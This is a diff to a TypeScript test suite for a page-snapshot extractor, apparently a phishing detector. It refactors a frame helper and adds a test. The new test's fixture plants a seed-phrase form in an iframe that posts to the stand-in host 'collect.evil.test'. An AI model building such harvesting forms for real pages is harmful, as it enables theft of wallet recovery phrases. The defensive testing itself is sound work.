@@ -212,15 +212,24 @@ describe('extractSnapshot on hostile pages', () => {
   });
 
   describe('frames of the same origin (about:blank, srcdoc, javascript:) that the page writes into', () => {
-    /** A page whose frames' documents `fill` writes into, as a page's script does (jsdom: about:blank frames). */
-    function withFrames(body: string, fill: (frames: Document[]) => void): string {
+    /** The snapshot of a page whose frames' documents `fill` writes into, as a page's script does (jsdom: about:blank frames). */
+    function snapshotWithFrames(body: string, fill: (frames: Document[]) => void) {
       const dom = new JSDOM(`<!doctype html><body>${body}</body>`, { url: 'https://site.test/' });
       const { document } = dom.window;
       fill([...document.querySelectorAll('iframe')].map((frame) => frame.contentDocument!));
-      const text = extractSnapshot(document as unknown as Document, 'https://site.test/').text;
+      const snapshot = extractSnapshot(document as unknown as Document, 'https://site.test/');
       dom.window.close();
-      return text;
+      return snapshot;
     }
+    const withFrames = (body: string, fill: (frames: Document[]) => void) => snapshotWithFrames(body, fill).text;
+
+    it('reads their forms and links with the page\'s own', () => {
+      const snap = snapshotWithFrames('<form action="/a"><input name="email"></form><iframe></iframe>', ([frame]) => {
+        frame!.body.innerHTML = '<form action="https://collect.evil.test/seed"><input name="phrase" placeholder="12 words"></form><a href="https://t.me/x">tg</a>';
+      });
+      expect(snap.forms.map((form) => form.fields[0]!.name)).toEqual(['email', 'phrase']);
+      expect(snap.links.sort()).toEqual(['collect.evil.test', 't.me']);
+    });
 
     it('reads their text where the frame sits, apart from the text around it', () => {
       const text = withFrames('<p>Prima</p><iframe></iframe><p>Dopo</p>', ([frame]) => {
